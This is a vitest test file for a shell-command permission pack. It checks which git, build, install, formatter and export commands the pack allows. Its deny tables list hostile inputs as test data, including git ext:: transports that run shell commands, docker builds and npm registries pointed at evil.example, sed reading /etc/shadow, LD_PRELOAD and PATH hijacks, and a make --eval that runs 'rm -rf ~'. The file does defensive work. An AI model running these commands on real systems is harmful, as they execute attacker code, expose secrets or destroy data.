import { describe, it } from 'vitest';
import { workflowPack } from '../../../src/policy/packs/workflow.js';
import { expectPack } from '../../support/packs.js';

const expectWf = (command: Parameters<typeof expectPack>[1], expected: string | null) =>
  expectPack(workflowPack, command, expected);

describe('workflow pack: git that stays in the local repository', () => {
  it.each([
    ['git add src/index.ts', 'allow git-local'],
    ['git fetch --dry-run', 'allow git-sync'], // the objects are still downloaded
    ['git add README.md docs/usage.md', 'allow git-local'],
    ['git add -p src/a.ts', 'allow git-local'],
    ['git commit -m "Fix parser bug"', 'allow git-local'],
    ["git commit -m 'feat: x' -m 'body'", 'allow git-local'],
    ['git commit --amend --no-edit', 'allow git-local'],
    ['git commit -s -F msg.txt', 'allow git-local'],
    ['git -C ../other commit -m x', 'allow git-local'],
    ['git checkout -b feature/x', 'allow git-local'],
    ['git checkout -b feature/x origin/main', 'allow git-local'],
    ['git switch -c fix/typo', 'allow git-local'],
    ['git switch main', 'allow git-local'],
    ['git switch -', 'allow git-local'],
    ['git stash', 'allow git-local'],
    ['git stash push -m wip src/a.ts', 'allow git-local'],
    ['git restore --staged src/a.ts', 'allow git-local'],
    ['git rm --cached build.log', 'allow git-local'],
    ['git reset --soft HEAD~1', 'allow git-local'],
    ['git fetch', 'allow git-sync'],
    ['git fetch --all --prune', 'allow git-sync'],
    ['git fetch origin main', 'allow git-sync'],
    ['git pull --ff-only', 'allow git-sync'],
    ['git pull --ff-only origin main', 'allow git-sync'],
    // a plain pull merges only when git can do so without touching uncommitted changes (and can be aborted)
    ['git pull', 'allow git-sync'],
    ['git pull origin main', 'allow git-sync'],
    ['git pull --no-rebase -q', 'allow git-sync'],
    // commit -a takes tracked files' changes only: local and undoable like add + commit
    ['git commit -am wip', 'allow git-local'],
    ['git commit -a -m x', 'allow git-local'],
    ['git commit --all --amend --no-edit', 'allow git-local'],
  ])('%s → %s', (command, expected) => expectWf(command, expected));

  it.each([
    // the whole tree, ignored files, credential files
    ['git add .'],
    ['git add -A'],
    ['git add --all --verbose'],
    ['git add -u'],
    ['git add -f dist/x.js'],
    ['git add .env'],
    ['git add config/.env.production'],
    ['git add $FILES'],
    // commits skipping the hooks, or of named paths as they are now
    ['git commit -an -m x'],
    ['git commit -a --no-verify -m x'],
    ['git commit -n -m x'],
    ['git commit --no-verify -m x'],
    ['git commit -m x src/a.ts'],
    // config that runs programs, another repository
    ['git -c core.hooksPath=/tmp/h commit -m x'],
    ['git --git-dir=/tmp/r commit -m x'],
    ['git --work-tree=/ add etc/passwd'],
    // moving the tree under uncommitted work, or throwing work away
    ['git checkout main'],
    ['git checkout -B main'],
    ['git switch -f main'],
    ['git switch --discard-changes main'],
    ['git switch -C main'],
    ['git stash pop'],
    ['git stash apply'],
    ['git stash drop'],
    ['git restore src/a.ts'],
    ['git restore --staged .'],
    ['git restore --staged --worktree src/a.ts'],
    ['git rm src/a.ts'],
    ['git rm --cached .'],
    ['git reset'],
    ['git reset --hard'],
    ['git reset --soft --hard HEAD~1'],
    ['git pull --rebase'],
    ['git pull -r origin main'],
    ['git pull --autostash'],
    ['git pull -s ours'],
    ['git pull -X theirs'],
    ['git pull --no-verify'],
    ["git pull 'ext::sh -c id'"],
    ['git pull origin +main:main'],
    ['git pull --ff-only --rebase'],
    ['git merge main'],
    ['git push origin main'],
    // programs named by options or URLs
    ['git fetch --upload-pack=./evil origin'],
    ["git fetch 'ext::sh -c touch% /tmp/pwned'"],
    ['git fetch origin +main:main'],
    ['git pull --ff-only --upload-pack=x'],
  ])('%s → not vouched for', (command) => expectWf(command, null));
});

describe('workflow pack: builds and the project’s own scripts', () => {
  it.each([
    ['npm run build', 'allow project-script'],
    ['cargo publish --dry-run', 'allow build'], // builds the crate into target/package, uploads nothing
    ['npm run dev', 'allow project-script'],
    ['npm run build:prod', 'allow project-script'],
    ['npm run lint:fix', 'allow project-script'],
    ['npm run format', 'allow project-script'],
    ['npm run build -- --watch', 'allow project-script'],
    ['npm start', 'allow project-script'],
    ['pnpm run build:types', 'allow project-script'],
    ['pnpm dev', 'allow project-script'],
    ['yarn build', 'allow project-script'],
    ['bun run build', 'allow project-script'],
    ['go build ./...', 'allow build'],
    ['go build -o bin/app ./cmd/app', 'allow build'],
    ['cargo build', 'allow build'],
    ['cargo build --release -p core', 'allow build'],
    ['tsc', 'allow build'],
    ['tsc -p tsconfig.build.json', 'allow build'],
    // -b with projects named: their own configurations say where they write, which no entry can see
    ['tsc -b packages/a', null],
    ['npx tsc', 'allow build'],
    ['pnpm exec tsc -p .', 'allow build'],
    ['make', 'allow build'],
    // a named target is one of the project's scripts, judged by its name like a package.json script
    ['make build', 'allow project-script'],
    ['make -j4 all', 'allow project-script'],
    ['make -j 8 build', 'allow project-script'],
    ['./gradlew build', 'allow build'],
    ['mvn -q package', 'allow build'],
    ['dotnet build -c Release', 'allow build'],
    ['docker build -t app .', 'allow build'],
    ['docker build -f docker/Dockerfile --build-arg NODE_VERSION=20 -t app:dev .', 'allow build'],
    ['docker buildx build --platform linux/amd64 -t app --load .', 'allow build'],
  ])('%s → %s', (command, expected) => expectWf(command, expected));

  it.each([
    ['npm run deploy'],
    ['npm run release:patch'],
    ['npm run db:migrate'],
    ['npm run clean'],
    ['npm run seed'],
    ['npm run some-script'],
    ['npm run $SCRIPT'],
    ['npm run build --prefix /tmp/other'],
    ['npm run build --script-shell=/tmp/sh'],
    ['npm run build -- --outDir /etc'],
    ['npm run build -- --config=~/x.js'],
    ['npm start -- ../../other'],
    ['yarn build --out-dir /tmp/x'],
    ['yarn build --out-dir=/tmp/x'],
    ['npm run build --outDir=/etc'],
    ['yarn fix'],
    ['bun build ./x.ts'],
    ['go -C /tmp/x build'],
    ['go build -toolexec=./wrap ./...'],
    ['cargo build --config build.rustc-wrapper="/tmp/x"'],
    ['cargo build --manifest-path /tmp/other/Cargo.toml'],
    ['cargo build --target-dir /tmp/t'],
    ['cargo run'],
    ['tsc -p /tmp/evil.json'],
    ['tsc -p ../other/tsconfig.json'],
    ['npx -y tsc'],
    ['npx vitest run'],
    ['make deploy'],
    ['make install'],
    ['make -j deploy'],
    ['make -f /tmp/evil.mk'],
    ['make -C /tmp/x'],
    ['make SHELL=/tmp/sh build'],
    ['make --eval="all: ; rm -rf ~"'],
    ['make -n build'],
    ['./gradlew publish'],
    ['./gradlew build -I /tmp/init.gradle'],
    ['mvn deploy'],
    ['dotnet build -o /tmp/out'],
    ['docker build --secret id=npm,src=$HOME/.npmrc -t app .'],
    ['docker build --ssh default .'],
    ['docker build --network host .'],
    ['docker build -o type=local,dest=/etc .'],
    ['docker build -t app /'],
    ['docker build -t app https://evil.example/repo.git'],
    ['docker build -f /tmp/Dockerfile .'],
    ['docker build --build-arg NPM_TOKEN=abc .'],
    ['docker buildx build --push -t reg/app .'],
  ])('%s → not vouched for', (command) => expectWf(command, null));
});

describe('workflow pack: installing what the project declares', () => {
  it.each([
    ['npm ci', 'allow install-declared'],
    ['terragrunt run-all plan', 'allow install-declared'], // fetches the declared modules, then plans
    ['npm install', 'allow install-declared'],
    ['npm i', 'allow install-declared'],
    ['npm install --omit dev', 'allow install-declared'],
    ['npm ci --ignore-scripts', 'allow install-declared'],
    ['pnpm install', 'allow install-declared'],
    ['pnpm install --frozen-lockfile', 'allow install-declared'],
    ['yarn', 'allow install-declared'],
    ['yarn install --immutable', 'allow install-declared'],
    ['bun install', 'allow install-declared'],
    ['go mod download', 'allow install-declared'],
    ['go mod tidy', 'allow install-declared'],
    ['cargo fetch', 'allow install-declared'],
  ])('%s → %s', (command, expected) => expectWf(command, expected));

  it.each([
    ['npm install left-pad'],
    ['npm i -D typescript'],
    ['npm install -g typescript'],
    ['npm install --global'],
    ['npm install --prefix /tmp/x'],
    ['npm install --registry https://evil.example'],
    ['npm ci --userconfig /tmp/npmrc'],
    ['pnpm add lodash'],
    ['pnpm install lodash'],
    ['yarn add lodash'],
    ['yarn install --modules-folder /tmp/nm'],
    ['bun install lodash'],
    ['bun add lodash'],
    ['pip install -r requirements.txt'],
  ])('%s → not vouched for', (command) => expectWf(command, null));
});

describe('workflow pack: shell init and mktemp', () => {
  it.each([
    ['ssh-agent -s', 'allow shell-init'],
    ['direnv hook bash', 'allow shell-init'],
    ['pyenv init -', 'allow shell-init'],
    ['mktemp', 'allow temp-file'],
    ['mktemp -d', 'allow temp-file'],
    ['mktemp -d -t build.XXXXXX', 'allow temp-file'],
    ['mktemp --tmpdir x.XXXX', 'allow temp-file'],
    // a template is a file the command names: the path policy judges it as a write (tests/e2e, explain)
    ['mktemp x.XXXX', 'allow temp-file'],
  ])('%s → %s', (command, expected) => expectWf(command, expected));

  it.each([
    ['direnv allow'],
    ['direnv export bash'],
    ['pyenv install 3.12'],
    ['mktemp -p /etc'],
    ['mktemp --tmpdir=/etc'],
    ['mktemp -u'],
  ])('%s → not vouched for', (command) => expectWf(command, null));
});

describe('workflow pack: more local git, formatters, variables, declared tooling', () => {
  it.each([
    ['git branch feat/x', 'allow git-local'],
    ['git branch -d feat/old', 'allow git-local'],
    ['git branch -m old new', 'allow git-local'],
    ['git tag v1.2.3', 'allow git-local'],
    ['git tag v1.2.3 HEAD~1', 'allow git-local'],
    ['git revert --no-edit HEAD', 'allow git-local'],
    ["sed -i 's/foo/bar/g' src/a.ts", 'allow format'],
    ["sed -i.bak -E 's/a+/b/' src/a.ts src/b.ts", 'allow format'],
    ["sed -ni 's/a/b/p' src/a.ts", 'allow format'],
    ["sed -i '' 's/a/b/' src/a.ts", 'allow format'],
    ['npx prettier --write src', 'allow format'],
    ['npx eslint --fix src', 'allow format'],
    ['gofmt -w .', 'allow format'],
    ['go fmt ./...', 'allow format'],
    ['cargo fmt', 'allow format'],
    ['terraform fmt -recursive', 'allow format'],
    ['ruff format .', 'allow format'],
    ['ruff check --fix src', 'allow format'],
    ['black src tests', 'allow format'],
    ['export NODE_ENV=development', 'allow shell-variable'],
    ['export A=1 B=two', 'allow shell-variable'],
    ['terraform init', 'allow install-declared'],
    ['terraform init -input=false -backend=false', 'allow install-declared'],
    ['python3 -m venv .venv', 'allow install-declared'],
    // tsc compiling files writes beside them, or into --outDir: the pack vouches for the form, and each
    // output is a write the path policy judges (tests/shell/tier.test.ts)
    ['tsc src/a.ts', 'allow build'],
    ['npx tsc --outDir dist src/a.ts', 'allow build'],
    ['tsc --declarationDir types src/a.ts', null],
  ])('%s → %s', (command, expected) => expectWf(command, expected));

  it.each([
    ['git branch -D feat/old'],
    ['git branch -d -f feat/old'],
    ['git branch -M old new'],
    ['git branch -f main HEAD~3'],
    ['git tag -a v1.0.0'],
    ['git tag -a v1.0.0 -m release'],
    ['git tag -d v1'],
    ['git tag -f v1'],
    ['git revert --abort'],
    ['git revert -n HEAD'],
    ["sed -i 's/a/b/w /tmp/out' src/a.ts"],
    ["sed -i 's/a/b/e' src/a.ts"],
    ["sed -i '1r /etc/shadow' src/a.ts"],
    ['sed -i "$SCRIPT" src/a.ts'],
    ['sed -i -f script.sed src/a.ts'],
    ['npx prettier --check .'],
    ['npx prettier --write --plugin=/tmp/evil.js src'],
    ['npx eslint --fix -c /tmp/eslint.config.js src'],
    ['cargo fmt --manifest-path /tmp/x/Cargo.toml'],
    ['export PATH=/tmp/evil:$PATH'],
    ['export NODE_OPTIONS=--require=/tmp/x.js'],
    ['export LD_PRELOAD=/tmp/x.so'],
    ['export GIT_SSH_COMMAND=x'],
    ['export DIR=/etc'],
    ['export X'],
    ['export X=$(id)'],
    ['terraform init -upgrade'],
    ['terraform init -migrate-state'],
    ['terraform init -from-module=git::https://x.example/m'],
    ['python3 -m venv --clear .venv'],
    ['python venv .venv'],
    ['ruff check --fix --unsafe-fixes src'],
    ['biome check --write --unsafe src'],
  ])('%s → not vouched for', (command) => expectWf(command, null));

  // The form is the formatter's own; where it writes is the path policy's (tests/shell/tier.test.ts).
  it.each([
    ["sed -i 's/a/b/' src/a.ts"],
    ["sed -i.bak -e 's/a/b/' src/a.ts"],
    ['npx prettier --write src'],
    ['prettier -w src/a.ts'],
    ['npx eslint --fix src'],
    ['stylelint --fix src/a.css'],
    ['gofmt -w .'],
    ['black src'],
    ['isort src/a.py'],
    ['ruff format src'],
    ['ruff check --fix src'],
    ['biome check --write src'],
    ['terraform fmt -recursive'],
  ])('%s → allow format', (command) => expectWf(command, 'allow format'));

  it('formatters only where the command runs in the project', () => {
    expectPack(workflowPack, 'npx prettier --write .', null, { cwd: '/tmp/elsewhere' });
  });
});
